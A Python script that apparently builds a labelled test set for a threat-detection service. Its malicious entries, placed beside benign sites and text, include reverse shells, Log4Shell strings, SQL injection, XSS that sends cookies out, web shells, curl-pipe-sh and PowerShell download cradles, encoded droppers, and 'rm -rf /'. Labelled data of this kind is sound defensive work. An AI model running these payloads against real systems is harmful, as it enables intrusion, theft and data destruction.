"""Writes labelled.jsonl: the labelled indicators the analysis is measured on.

Run from the repository root: ``uv run python threat-service/tests/data/build_labelled.py``.
Every entry is synthetic, written from public descriptions of phishing and attack patterns
(the ``source`` of each says which); nothing was fetched. Malicious hosts are defanged
(``hxxp``, ``[.]``) and use made-up names or documentation addresses (RFC 5737). Benign
entries are well-known sites and ordinary text. The feed entries (``feed.jsonl``) imitate
abuse.ch Feodo Tracker / MalwareBazaar rows for documentation addresses and made-up hashes.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import random
from pathlib import Path

HERE = Path(__file__).parent
rng = random.Random(12)
rows: list[dict[str, str]] = []


def add(indicator: str, label: str, source: str, kind: str = "") -> None:
    row = {"indicator": indicator, "label": label, "source": source}
    if kind:
        row["type"] = kind
    rows.append(row)


def fang(value: str) -> str:
    return value.replace("http", "hxxp", 1).replace(".", "[.]")


BRANDS = [
    "paypal",
    "microsoft",
    "apple",
    "amazon",
    "netflix",
    "facebook",
    "instagram",
    "linkedin",
    "dropbox",
    "docusign",
    "adobe",
    "wellsfargo",
    "chase",
    "coinbase",
    "binance",
    "metamask",
    "outlook",
    "office365",
    "icloud",
    "spotify",
    "ebay",
    "roblox",
    "whatsapp",
    "fedex",
    "usps",
]
SUS = ["xyz", "top", "icu", "online", "site", "live", "click", "shop", "buzz", "info"]
APWG = "APWG Phishing Activity Trends reports: brand names combined with words in look-alike domains"
CP = "Check Point Brand Phishing Reports: typosquatted brand domains"

# --- malicious URLs and domains --------------------------------------------------------
for i, brand in enumerate(BRANDS):
    tld = SUS[i % len(SUS)]
    typo = (
        brand.replace("l", "1", 1)
        if "l" in brand
        else brand.replace("o", "0", 1)
        if "o" in brand
        else brand[:-1]
    )
    if typo == brand:
        typo = brand + brand[-1]
    add(fang(f"http://{typo}.com/login/verify"), "malicious", CP)
    add(fang(f"https://{brand}-account-verify.{tld}/signin"), "malicious", APWG)
    add(
        fang(f"http://{brand}.com@198.51.100.{10 + i}/login"),
        "malicious",
        "RFC 3986 userinfo abuse ('@' trick) described in US-CERT phishing guidance",
    )
    add(
        fang(f"https://{brand}.com.security-check.account-update.{rng.randrange(10**6)}.top/"),
        "malicious",
        "APWG: long hostnames with the brand as a leading subdomain",
    )
    add(
        fang(f"https://{brand}-support-team.web.app/{brand}/login.html"),
        "malicious",
        "Netcraft/APWG: phishing kits on free hosting (firebase web.app) impersonating brands",
    )
    add(fang(f"secure-{brand}-billing.{tld}"), "malicious", APWG, "domain")
for i in range(30):
    name = rng.choice(["update", "invoice", "doc", "setup", "payload", "client", "agent"]) + rng.choice(
        ["", "_x64", "2"]
    )
    ext = rng.choice(["exe", "hta", "ps1", "apk", "scr", "vbs", "msi"])
    add(
        fang(f"http://203.0.113.{i + 1}:{rng.choice([8080, 81, 8888, 5555, 443])}/bins/{name}.{ext}"),
        "malicious",
        "abuse.ch URLhaus: malware served from bare IP addresses, often on odd ports (MITRE T1105)",
    )
CONS = "bcdfghjklmnpqrstvwxz"
for _ in range(30):
    length = rng.randrange(14, 22)
    label = "".join(rng.choice(CONS + "aeiou0123456789" if j % 3 else CONS) for j in range(length))
    add(
        fang(f"{label}.{rng.choice(['com', 'net', 'info', 'biz', 'org'])}"),
        "malicious",
        "DGA-generated names (Conficker, Necurs, Ramnit); MITRE ATT&CK T1568.002",
        "domain",
    )
HOMO = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441", "i": "\u0456"}
for brand in BRANDS[:20]:
    swap = next((c for c in brand if c in HOMO), None)
    if swap is None:
        continue
    fake = brand.replace(swap, HOMO[swap], 1) + ".com"
    add(
        fake.encode("idna").decode(),
        "malicious",
        "IDN homograph attacks (Gabrilovich & Gontmakher 2002; the 2017 xn--80ak6aa92e.com demonstration)",
        "domain",
    )
for payload in [
    "alert(document.cookie)",
    "fetch('//198.51.100.7/c?'+document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
]:
    add("javascript:" + payload, "malicious", "OWASP XSS Filter Evasion Cheat Sheet: javascript: URLs")
html = base64.b64encode(
    b"<html><form action='http://198.51.100.9/p.php'><input name=pass></form></html>"
).decode()
add(f"data:text/html;base64,{html}", "malicious", "data: URL phishing pages (Netcraft, 2018 onwards)")

# --- malicious payloads --------------------------------------------------------------
HOSTS = [f"192.0.2.{n}" for n in range(1, 40)]
PAT = "PayloadsAllTheThings (swisskyrepo) cheat sheets; GTFOBins"
shells = [
    "bash -i >& /dev/tcp/{h}/4444 0>&1",
    "sh -i >& /dev/udp/{h}/53 0>&1",
    "nc -e /bin/sh {h} 4444",
    "ncat {h} 9001 -e /bin/bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {h} 1234 >/tmp/f",
    "python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    's.connect(("{h}",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
    "socat tcp-connect:{h}:4444 exec:bash,pty,stderr",
    'perl -e \'use Socket;$i="{h}";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'',
    "$client = New-Object System.Net.Sockets.TCPClient('{h}',443);$stream = $client.GetStream()",
]
for i, shell in enumerate(shells):
    add(shell.replace("{h}", HOSTS[i]), "malicious", "Reverse shells: " + PAT, "payload")
log4 = [
    "${jndi:ldap://{h}:1389/a}",
    "${jndi:rmi://{h}/Exploit}",
    "${${lower:j}ndi:ldap://{h}/x}",
    "${jndi:dns://{h}/q}",
    "User-Agent: ${jndi:ldaps://{h}:636/o}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://{h}/z}",
]
for i, text in enumerate(log4):
    add(
        text.replace("{h}", HOSTS[10 + i]),
        "malicious",
        "CVE-2021-44228 (Log4Shell) advisories and published bypasses",
        "payload",
    )
sqli = [
    "' OR 1=1 --",
    "admin' --' OR 'a'='a' --",
    "1 UNION SELECT username, password FROM users",
    "1' UNION ALL SELECT NULL,table_name FROM information_schema.tables--",
    "'; DROP TABLE users; --",
    "1 AND SLEEP(5)",
    "'; WAITFOR DELAY '0:0:5'--",
    "id=1%20UNION%20SELECT%201,2,3",
    "'; EXEC xp_cmdshell 'whoami'--",
    "1 OR 1=1 UNION SELECT load_file('/etc/passwd')",
    '" or "x"="x" --',
]
for text in sqli:
    add(text, "malicious", "OWASP WSTG-INPV-05 SQL Injection; " + PAT, "payload")
xss = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert('xss')>",
    "<body onload=fetch('//192.0.2.5/'+document.cookie)>",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=x onload=prompt(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<details open ontoggle=alert(1)>",
    "<script src=//192.0.2.9/x.js></script>",
    "<input autofocus onfocus=alert(1)>",
]
for text in xss:
    add(text, "malicious", "OWASP XSS Filter Evasion Cheat Sheet; PortSwigger XSS cheat sheet", "payload")
ssti = [
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{7*7}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "<%= system('id') %>",
]
for text in ssti:
    add(text, "malicious", "PortSwigger Research: Server-Side Template Injection (Kettle, 2015)", "payload")
trav = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "/download?file=../../../../proc/self/environ",
    "%252e%252e%252fetc%252fpasswd",
    "GET /static/..%c0%af..%c0%afetc/passwd HTTP/1.1",
]
for text in trav:
    add(text, "malicious", "OWASP WSTG-ATHZ-01 Directory Traversal; CWE-22", "payload")
cmdi = [
    "; cat /etc/passwd",
    "| whoami",
    "&& id",
    "$(whoami)",
    "`id`; uname -a",
    "127.0.0.1; wget http://192.0.2.20/x -O /tmp/x",
    "host=localhost%0aid",
    "|| curl http://192.0.2.21/s.sh | sh",
    "test; rm -rf / --no-preserve-root",
]
for text in cmdi:
    add(text, "malicious", "OWASP WSTG-INPV-12 Command Injection; CWE-78", "payload")
webshells = [
    "<?php system($_GET['cmd']); ?>",
    "<?php eval(base64_decode($_POST['x'])); ?>",
    "<?php @eval($_REQUEST['c']);?>",
    "<?php echo shell_exec($_GET['e']); ?>",
    "<?php passthru($_REQUEST['cmd']); ?>",
    '<% eval request("pass") %>',
    '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    "<?php $c=`$_GET[c]`; echo $c; ?>",
    "<?php assert($_POST['a']); ?>",
]
for text in webshells:
    add(
        text,
        "malicious",
        "MITRE ATT&CK T1505.003; NSA/ASD 'Detect and Prevent Web Shell Malware' (2020)",
        "payload",
    )
cradles = [
    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.30/a.ps1')",
    'powershell -c "irm http://192.0.2.31/p | iex"',
    "curl -s http://192.0.2.32/install.sh | bash",
    "wget -qO- http://192.0.2.33/x | sh",
    "certutil.exe -urlcache -split -f http://192.0.2.34/a.exe a.exe",
    "bitsadmin /transfer job http://192.0.2.35/b.exe C:\\\\Users\\\\Public\\\\b.exe",
    "mshta http://192.0.2.36/run.hta",
    "regsvr32 /s /n /u /i:http://192.0.2.37/file.sct scrobj.dll",
    "Invoke-Expression (Invoke-WebRequest http://192.0.2.38/s.ps1)",
]
for text in cradles:
    add(text, "malicious", "MITRE ATT&CK T1105 Ingress Tool Transfer; LOLBAS project entries", "payload")
for command in [
    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.40/a')",
    "Start-Process calc; Set-MpPreference -DisableRealtimeMonitoring $true",
    "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.41',443)",
    "iwr http://192.0.2.42/b.exe -OutFile $env:TEMP\\b.exe; Start-Process $env:TEMP\\b.exe",
]:
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    add(
        f"powershell.exe -NoP -W Hidden -enc {encoded}",
        "malicious",
        "PowerShell -EncodedCommand abuse: MITRE T1059.001/T1027, Red Canary Threat Detection Report",
        "payload",
    )
for inner in [
    b"bash -i >& /dev/tcp/192.0.2.50/4444 0>&1",
    b"<?php system($_GET['c']); ?>",
    b"${jndi:ldap://192.0.2.51/a}",
    b"curl http://192.0.2.52/m.sh | sh",
]:
    wrapped = base64.b64encode(gzip.compress(inner, mtime=0)).decode()
    add(
        f"echo {wrapped} | base64 -d | gunzip | sh",
        "malicious",
        "Layered encoding (base64 over gzip) in droppers: MITRE ATT&CK T1027, T1140",
        "payload",
    )
    add(
        base64.b64encode(inner).decode(),
        "malicious",
        "Base64-wrapped payloads in request parameters: MITRE T1027",
        "payload",
    )

# --- malicious IPs and hashes from the test feed --------------------------------------
feed = []
for i in range(12):
    ip = f"198.51.100.{100 + i}"
    feed.append(
        {"source": "test-feodo", "kind": "ipv4", "value": ip, "threat": "botnet C2 (Feodo-style row)"}
    )
    add(ip, "malicious", "Listed in the test feed imitating abuse.ch Feodo Tracker IP blocklist")
for i in range(12):
    digest = hashlib.sha256(f"rampart synthetic sample {i}".encode()).hexdigest()
    feed.append({"source": "test-bazaar", "kind": "sha256", "value": digest, "threat": "synthetic sample"})
    add(digest, "malicious", "Listed in the test feed imitating abuse.ch MalwareBazaar SHA-256 export")

# --- benign ---------------------------------------------------------------------------------
TOP = "Well-known sites (Tranco top list) and their ordinary paths"
official = [
    "https://www.paypal.com/signin",
    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize",
    "https://accounts.google.com/signin/v2/identifier",
    "https://appleid.apple.com/sign-in",
    "https://www.amazon.com/ap/signin",
    "https://www.netflix.com/login",
    "https://www.facebook.com/login/",
    "https://www.linkedin.com/login",
    "https://www.dropbox.com/login",
    "https://account.docusign.com/",
    "https://www.chase.com/personal/banking",
    "https://www.coinbase.com/signin",
    "https://www.ebay.com/signin/",
    "https://outlook.live.com/mail/",
    "https://www.icloud.com/",
    "https://accounts.spotify.com/en/login",
    "https://www.fedex.com/en-us/tracking.html",
    "https://tools.usps.com/go/TrackConfirmAction",
    "https://www.amazon.co.uk/gp/css/order-history",
    "https://www.wellsfargo.com/online-banking/",
]
for value in official:
    add(value, "benign", "Brands' own sign-in pages (the official domains in data/brands.txt)")
sites = [
    "https://www.wikipedia.org/",
    "https://en.wikipedia.org/wiki/Phishing",
    "https://docs.python.org/3/library/ssl.html",
    "https://github.com/python/cpython/blob/main/README.rst",
    "https://pypi.org/project/requests/",
    "https://www.bbc.co.uk/news",
    "https://www.nytimes.com/section/technology",
    "https://stackoverflow.com/questions/tagged/python",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers",
    "https://www.rfc-editor.org/rfc/rfc9110",
    "https://www.debian.org/releases/stable/",
    "https://kubernetes.io/docs/concepts/",
    "https://www.kernel.org/",
    "https://news.ycombinator.com/item?id=1",
    "https://www.reddit.com/r/netsec/",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.google.com/maps?q=london",
    "https://www.gov.uk/government/organisations",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://attack.mitre.org/techniques/T1566/",
    "https://owasp.org/www-project-top-ten/",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://www.apache.org/licenses/LICENSE-2.0",
    "https://www.mozilla.org/en-US/firefox/new/",
    "https://www.openssl.org/source/",
    "https://cloud.google.com/storage/docs",
    "https://aws.amazon.com/s3/",
    "https://azure.microsoft.com/en-us/products/",
    "https://www.cloudflare.com/learning/dns/what-is-dns/",
    "https://letsencrypt.org/docs/",
    "https://www.w3.org/TR/html52/",
    "https://www.postgresql.org/docs/current/index.html",
    "https://redis.io/docs/latest/",
    "https://nginx.org/en/docs/",
    "https://www.gnu.org/software/bash/manual/",
    "https://www.theguardian.com/uk",
    "https://www.lemonde.fr/",
    "https://www.spiegel.de/",
    "https://www.nasa.gov/",
    "https://www.who.int/news",
    "https://www.imdb.com/chart/top/",
    "https://www.booking.com/index.html",
    "https://www.airbnb.com/",
    "https://www.etsy.com/c/jewelry",
    "https://www.twitch.tv/directory",
    "https://www.nature.com/articles",
    "https://arxiv.org/list/cs.CR/recent",
    "https://www.python.org/downloads/",
    "https://www.rust-lang.org/learn",
    "https://go.dev/doc/",
    "https://example.com/",
    "https://www.iana.org/domains/reserved",
    "https://duckduckgo.com/?q=tls+1.3",
    "https://www.google.com/search?q=rampart",
    "https://www.microsoft.com/en-us/security",
    "https://support.apple.com/en-us/HT201222",
    "https://www.paypal.com/us/webapps/mpp/account-selection",
    "https://developer.apple.com/documentation/",
    "http://neverssl.com/",
    "https://www.ietf.org/rfc/rfc1918.txt",
]
for value in sites:
    add(value, "benign", TOP)
domains = [
    "wikipedia.org",
    "python.org",
    "github.com",
    "gitlab.com",
    "bbc.co.uk",
    "nytimes.com",
    "stackoverflow.com",
    "mozilla.org",
    "debian.org",
    "ubuntu.com",
    "kernel.org",
    "apache.org",
    "openssl.org",
    "cloudflare.com",
    "letsencrypt.org",
    "w3.org",
    "ietf.org",
    "iana.org",
    "mitre.org",
    "owasp.org",
    "nist.gov",
    "cisa.gov",
    "gov.uk",
    "europa.eu",
    "who.int",
    "nasa.gov",
    "reddit.com",
    "youtube.com",
    "twitter.com",
    "medium.com",
    "wordpress.org",
    "stripe.com",
    "shopify.com",
    "salesforce.com",
    "oracle.com",
    "ibm.com",
    "intel.com",
    "nvidia.com",
    "samsung.com",
    "sony.com",
    "bmw.de",
    "lemonde.fr",
    "spiegel.de",
    "elpais.com",
    "corriere.it",
    "nhk.or.jp",
    "abc.net.au",
    "cbc.ca",
    "harvard.edu",
    "mit.edu",
    "ox.ac.uk",
    "cam.ac.uk",
    "ethz.ch",
    "booking.com",
    "airbnb.com",
    "tripadvisor.com",
    "imdb.com",
    "twitch.tv",
    "zoom.us",
    "slack.com",
    "atlassian.com",
    "notion.so",
    "figma.com",
    "docker.com",
    "kubernetes.io",
    "golang.org",
    "rust-lang.org",
    "npmjs.com",
    "pypi.org",
    "readthedocs.io",
    "arxiv.org",
    "nature.com",
    "sciencedirect.com",
    "paypal.com",
    "microsoft.com",
    "apple.com",
    "amazon.de",
    "netflix.com",
    "linkedin.com",
    "dropbox.com",
]
for value in domains:
    add(value, "benign", TOP, "domain")
for value in [
    "10.0.0.1",
    "192.168.1.1",
    "172.16.5.4",
    "127.0.0.1",
    "169.254.169.254",
    "100.64.0.1",
    "fd00::1",
    "fe80::1",
    "::1",
    "192.0.2.1",
    "2001:db8::1",
    "8.8.8.8",
    "1.1.1.1",
    "9.9.9.9",
    "208.67.222.222",
]:
    add(value, "benign", "RFC 1918/5737/4193 special-purpose ranges and public DNS resolvers")
for text in [b"", b"hello world\n", b"The quick brown fox"]:
    add(
        hashlib.sha256(text).hexdigest(),
        "benign",
        "SHA-256 of well-known harmless content (empty file, text)",
    )
    add(hashlib.md5(text).hexdigest(), "benign", "MD5 of well-known harmless content (empty file, text)")  # noqa: S324
texts = [
    "Hello team, the quarterly report is attached. Let me know if you have questions.",
    '{"user": "alice", "role": "admin", "active": true, "last_login": "2024-05-01T10:00:00Z"}',
    "2024-05-01 10:00:01 INFO GET /api/v1/health 200 1.2ms",
    "SELECT name, email FROM customers WHERE created_at > '2024-01-01' ORDER BY name;",
    "import os\nprint(os.getcwd())\n",
    "def add(a, b):\n    return a + b\n",
    "for i in $(seq 1 10); do echo $i; done",
    "Please reset your password through the company portal if it expires.",
    "<html><body><h1>Welcome</h1><p>Our store opens at 9am.</p></body></html>",
    "name=Alice+Smith&email=alice%40example.com&message=Hi+there",
    "Meeting notes: discussed TLS 1.3 rollout, certificate rotation and the new CDN.",
    "apt-get update && apt-get install -y nginx",
    "git clone https://github.com/python/cpython.git && cd cpython && ./configure",
    "The Log4j vulnerability (CVE-2021-44228) was patched in version 2.17.1.",
    "Our incident response plan has four phases: preparation, detection, containment, recovery.",
    "UPDATE inventory SET quantity = quantity - 1 WHERE sku = 'A-100';",
    "<p>Contact us at support@example.com or call +44 20 7946 0000.</p>",
    "const total = items.reduce((sum, item) => sum + item.price, 0);",
    "docker run --rm -p 8080:80 nginx:alpine",
    "Invoice #4521 is due on 30 June. Payment can be made by bank transfer.",
    "kubectl get pods -n production -o wide",
    'ssh-keygen -t ed25519 -C "alice@example.com"',
    "The weather in London is cloudy with a chance of rain in the afternoon.",
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Safari/537.36",
    "curl -s https://api.github.com/repos/python/cpython | jq .stargazers_count",
    "pip install --upgrade pip setuptools wheel",
    '<script src="/static/app.js"></script>',
    "Dear customer, your order has shipped and will arrive on Tuesday.",
    "tar -czf backup.tar.gz /var/www/html",
    "The function returns None when the key is missing from the dictionary.",
]
for text in texts:
    add(text, "benign", "Ordinary text, code, logs and commands written for the set", "payload")
for text in texts[:12]:
    add(
        base64.b64encode(text.encode()).decode(),
        "benign",
        "Base64 of ordinary text (e-mail attachments, API tokens)",
        "payload",
    )
for text in texts[12:20]:
    add(text.encode().hex(), "benign", "Hex of ordinary text (dumps, serialised fields)", "payload")

with (HERE / "labelled.jsonl").open("w", encoding="utf-8") as out:
    for row in rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
with (HERE / "feed.jsonl").open("w", encoding="utf-8") as out:
    for entry in feed:
        out.write(json.dumps(entry) + "\n")
counts = {label: sum(r["label"] == label for r in rows) for label in ("malicious", "benign")}
print(counts)
